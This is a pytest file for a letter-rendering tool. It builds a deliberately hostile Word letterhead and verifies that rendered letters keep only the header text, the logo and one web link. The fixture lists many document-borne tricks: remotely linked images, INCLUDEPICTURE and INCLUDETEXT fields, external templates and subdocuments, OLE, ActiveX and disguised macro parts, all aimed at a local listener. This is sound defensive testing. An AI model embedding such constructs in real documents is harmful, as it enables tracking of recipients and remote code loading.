"""A letterhead .docx can come from anyone: nothing in it may reach outside the letter.

The hostile letterhead below tries every way a .docx has of making Word or LibreOffice fetch an
address, pull in another file or run code, and carries its maker's metadata. Letters made from
it keep the letterhead's look (header text, the real logo, a plain web link) and nothing else.
"""

from __future__ import annotations

import re
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from cli import main

from .readers import pdf_info, pdf_text, require_programs
from .test_reference_docx import HEADER_TEXT, make_reference, png_bytes

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WEB_LINK = "https://hillside.example.org/"
# What the letterhead's maker put in its properties and settings; no letter may carry them.
MAKER_DETAILS = ("Pat Staffmember", "Hillside Secret Company", "Pat Manager", "Owner-Variable")
SUBJECT = ("Request for a change of social worker for Sam Doe and Lily Doe (case reference "
           "CP-2026-0413)")
# Parts and relationship types that embed, pull in or run content.
FORBIDDEN = ("vbaProject", "activeX", "control", "oleObject", "embeddings", "customXml",
             "attachedTemplate", "subDocument", "aFChunk", "frame", "webSettings")


def _rel(rel_id: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rel_id}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _picture(reference: str, number: int) -> str:
    return (
        '<w:r><w:drawing><wp:inline xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        f'<wp:extent cx="360000" cy="360000"/><wp:docPr id="{number}" name="Picture {number}"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
        f'picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="{number}" name="p{number}.png"/>'
        f"<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {reference}/><a:stretch>"
        '<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>")


def _add_to_rels(rels: bytes, *entries: str) -> bytes:
    return rels.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")


def _empty_rels(*entries: str) -> bytes:
    return _add_to_rels(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships'
                        b' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                        b"</Relationships>", *entries)


def hostile_letterhead(path: Path, address: str) -> Path:
    """A real letterhead (header text, a logo) with every way out added, built with zipfile.

    ``address`` (``127.0.0.1:PORT``) is where each way out would connect.
    """
    plain = make_reference(path.with_name("plain-letterhead.docx"))
    with zipfile.ZipFile(plain) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    web = f"http://{address}"
    header_runs = "".join((
        # A picture linked, not embedded: LibreOffice fetches it to draw the page.
        _picture('r:link="rIdBeacon"', 11),
        # A legacy (VML) picture from the web, and addresses in its attributes.
        '<w:r><w:pict><v:shape style="width:20pt;height:20pt"><v:imagedata r:id="rIdVml" '
        f'o:href="{web}/href.png" src="{web}/src.png"/></v:shape></w:pict></w:r>',
        # A "picture" that is really a macro project under an image's name.
        _picture('r:embed="rIdFakeImage"', 12),
        # A field that fetches a picture, and one that pulls in text.
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'INCLUDEPICTURE "{web}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>[picture]</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r>',
        # A plain web link (allowed) and a link to a file share (not).
        f'<w:hyperlink r:id="rIdWeb"><w:r><w:t xml:space="preserve"> {WEB_LINK}</w:t></w:r>'
        "</w:hyperlink>",
        '<w:hyperlink r:id="rIdShare"><w:r><w:t xml:space="preserve"> our share</w:t></w:r>'
        "</w:hyperlink>",
        # An embedded program (OLE), a linked one, and an ActiveX control.
        '<w:r><w:object><v:shape style="width:20pt;height:20pt"/><o:OLEObject Type="Embed" '
        'ProgID="Package" r:id="rIdOle"/></w:object></w:r>',
        '<w:r><w:object><v:shape style="width:20pt;height:20pt"/><o:OLEObject Type="Link" '
        'ProgID="Excel.Sheet.12" r:id="rIdOleLink"/></w:object></w:r>',
        '<w:r><w:object><w:control r:id="rIdControl" w:name="Button1"/></w:object></w:r>',
    ))
    header = parts["word/header1.xml"].decode("utf-8")
    # The logo as Word 365 saves an SVG: the SVG, and a PNG copy for older readers. An SVG can
    # load images from addresses of its own.
    header = header.replace('<a:blip r:embed="rId1"/>', (
        '<a:blip r:embed="rId1"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        'r:embed="rIdSvg"/></a:ext></a:extLst></a:blip>'), 1)
    header = header.replace("</w:p>", header_runs + '<w:subDoc r:id="rIdSub"/></w:p>', 1)
    header = header.replace("</w:hdr>", '<w:altChunk r:id="rIdChunk"/></w:hdr>')
    parts["word/header1.xml"] = header.encode("utf-8")
    parts["word/_rels/header1.xml.rels"] = _add_to_rels(
        parts["word/_rels/header1.xml.rels"],
        _rel("rIdBeacon", "image", f"{web}/beacon.png", external=True),
        _rel("rIdVml", "image", f"{web}/vml.png", external=True),
        _rel("rIdFakeImage", "image", "media/image9.png"),
        _rel("rIdSvg", "image", "media/image2.svg"),
        _rel("rIdWeb", "hyperlink", WEB_LINK, external=True),
        _rel("rIdShare", "hyperlink", f"file://{address.split(':')[0]}/share/x.docx",
             external=True),
        _rel("rIdOle", "oleObject", "embeddings/oleObject1.bin"),
        _rel("rIdOleLink", "oleObject", f"{web}/linked.xlsx", external=True),
        _rel("rIdControl", "control", "activeX/activeX1.xml"),
        _rel("rIdSub", "subDocument", f"{web}/sub.docx", external=True),
        _rel("rIdChunk", "aFChunk", "chunk.html"))
    parts["word/media/image2.svg"] = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{web}/svg.png" width="10" height="10"/></svg>').encode()
    parts["word/media/image9.png"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1ole"
    parts["word/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStream" '
        b'r:id="rId1" xmlns:r="' + R.encode() + b'"/>')
    parts["word/activeX/_rels/activeX1.xml.rels"] = _empty_rels(
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'activeXControlBinary" Target="activeX1.bin"/>')
    parts["word/activeX/activeX1.bin"] = b"\x00" * 64
    parts["word/chunk.html"] = f'<html><body><img src="{web}/chunk.png"></body></html>'.encode()

    footer = parts["word/footer1.xml"].decode("utf-8")
    parts["word/footer1.xml"] = footer.replace("</w:p>", (
        f'<w:fldSimple w:instr=" INCLUDETEXT &quot;{web}/text.docx&quot; "><w:r><w:t> (text)'
        "</w:t></w:r></w:fldSimple></w:p>"), 1).encode("utf-8")

    parts["word/_rels/document.xml.rels"] = _add_to_rels(
        parts["word/_rels/document.xml.rels"],
        _rel("rIdSub2", "subDocument", f"{web}/sub2.docx", external=True),
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="media/logo.bin"/>',
        _rel("rIdImage", "image", f"{web}/body.png", external=True))
    parts["word/media/logo.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name"
    parts["word/_rels/webSettings.xml.rels"] = _empty_rels(
        _rel("rIdFrame", "frame", f"{web}/frame.html", external=True))
    parts["word/webSettings.xml"] = parts["word/webSettings.xml"].replace(
        b"</w:webSettings>", b'<w:frameset><w:frame><w:sourceFileName r:id="rIdFrame" '
        b'xmlns:r="' + R.encode() + b'"/></w:frame></w:frameset></w:webSettings>')
    parts["word/_rels/settings.xml.rels"] = _empty_rels(
        _rel("rIdTemplate", "attachedTemplate", f"{web}/template.dotm", external=True))
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTemplate"/><w:docVars>'
        rb'<w:docVar w:name="Owner-Variable" w:val="x"/></w:docVars>', parts["word/settings.xml"])
    parts["docProps/app.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>'
        b"\\\\fileserver\\templates\\Letterhead.dotm</Template><Manager>Pat Manager</Manager>"
        b"<Company>Hillside Secret Company</Company></Properties>")
    parts["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="'
        b'{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner"><vt:lpwstr>Pat '
        b"Staffmember</vt:lpwstr></property></Properties>")
    parts["_rels/.rels"] = _add_to_rels(parts["_rels/.rels"], _rel(
        "rIdCustom", "custom-properties", "docProps/custom.xml"))
    types = parts["[Content_Types].xml"].decode("utf-8").replace("</Types>", "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in (
            ("word/media/logo.bin", "application/vnd.ms-office.vbaProject"),
            ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
            ("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
            ("word/embeddings/oleObject1.bin",
             "application/vnd.openxmlformats-officedocument.oleObject"),
            ("word/chunk.html", "text/html"),
            ("word/media/image2.svg", "image/svg+xml"),
            ("docProps/custom.xml",
             "application/vnd.openxmlformats-officedocument.custom-properties+xml"),
        )) + "</Types>")
    parts["[Content_Types].xml"] = types.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def package_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def relationships(parts: dict[str, bytes]) -> list[tuple[str, str, str, str]]:
    """(rels part, type, target, target mode) of every relationship in the package."""
    out = []
    for name, data in parts.items():
        if name.endswith(".rels"):
            for match in re.finditer(rb"<Relationship\b[^>]*>", data):
                attrs = dict(re.findall(r'(\w+)="([^"]*)"', match.group(0).decode("utf-8")))
                out.append((name, attrs["Type"], attrs["Target"], attrs.get("TargetMode", "")))
    return out


def render(runner: CliRunner, case: Path, out: Path, reference: Path,
           *extra: str) -> Path:
    result = runner.invoke(main, ["render", str(case), "-o", str(out), "--reference-docx",
                                  str(reference), *extra])
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    return hostile_letterhead(tmp_path / "letterhead.docx", "127.0.0.1:8765")


def test_no_relationship_leaves_the_letter_except_a_web_link(runner: CliRunner, full_case: Path,
                                                              tmp_path: Path,
                                                              hostile: Path) -> None:
    parts = package_parts(render(runner, full_case, tmp_path / "letter.docx", hostile))
    external = [(rel_type.rsplit("/", 1)[-1], target)
                for _, rel_type, target, mode in relationships(parts) if mode == "External"]
    assert external == [("hyperlink", WEB_LINK)]
    assert not [name for name, data in parts.items() if b"127.0.0.1" in data]


def test_no_macro_control_object_or_custom_xml_travels(runner: CliRunner, full_case: Path,
                                                       tmp_path: Path, hostile: Path) -> None:
    parts = package_parts(render(runner, full_case, tmp_path / "letter.docx", hostile))
    for word in FORBIDDEN:
        assert not [name for name in parts if word.lower() in name.lower()], word
        assert not [rel for rel in relationships(parts)
                    if rel[1].rsplit("/", 1)[-1].lower() == word.lower()], word
        content_types = re.findall(rb'ContentType="([^"]*)"', parts["[Content_Types].xml"])
        assert not [t for t in content_types if word.lower().encode() in t.lower()], word
    xml = b"".join(data for name, data in parts.items() if name.endswith(".xml"))
    for element in (b"svgBlip", b"<w:subDoc", b"<w:altChunk", b"<w:object", b"<w:control",
                    b"<w:attachedTemplate", b"INCLUDEPICTURE", b"INCLUDETEXT", b"<w:docVars"):
        assert element not in xml, element
    # Neither the fake image (a macro project under a .png name) nor the SVG is carried.
    images = [data for name, data in parts.items() if name.startswith("word/media/")]
    assert images == [png_bytes()]


def test_the_letterhead_still_gives_its_look(runner: CliRunner, full_case: Path,
                                             tmp_path: Path, hostile: Path) -> None:
    letter = docx.Document(str(render(runner, full_case, tmp_path / "letter.docx", hostile)))
    header = letter.sections[0].header
    text = "".join(p.text for p in header.paragraphs)
    assert HEADER_TEXT in text and WEB_LINK in text
    # What a field last showed stays as text; the field itself is gone.
    assert "[picture]" in text
    logos = [rel.target_part.blob for rel in header.part.rels.values()
             if rel.reltype.endswith("/image")]
    assert logos == [png_bytes()]


def test_the_letterheads_own_metadata_is_not_carried(runner: CliRunner, full_case: Path,
                                                     tmp_path: Path, hostile: Path) -> None:
    out = render(runner, full_case, tmp_path / "letter.docx", hostile)
    for name, data in package_parts(out).items():
        for detail in MAKER_DETAILS:
            assert detail.encode() not in data, (detail, name)
    properties = docx.Document(str(out)).core_properties
    assert properties.title == SUBJECT
    assert properties.author == "Jane Doe"


class _Listener:
    """A socket on 127.0.0.1 (a free port) that counts connections, in a thread."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.1)
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.connections.append(connection.recv(200))
                except OSError:
                    self.connections.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def listener() -> Iterator[_Listener]:
    found = _Listener()
    yield found
    found.close()


def test_a_pdf_from_a_hostile_letterhead_connects_nowhere(runner: CliRunner, full_case: Path,
                                                          tmp_path: Path,
                                                          listener: _Listener) -> None:
    require_programs()
    reference = hostile_letterhead(tmp_path / "letterhead.docx", listener.address)
    out = render(runner, full_case, tmp_path / "letter.pdf", reference)
    time.sleep(3)  # time for anything LibreOffice started to connect
    assert listener.connections == []
    assert HEADER_TEXT in pdf_text(out)
    info = pdf_info(out)
    assert (info.get("Title"), info.get("Author")) == (SUBJECT, "Jane Doe")
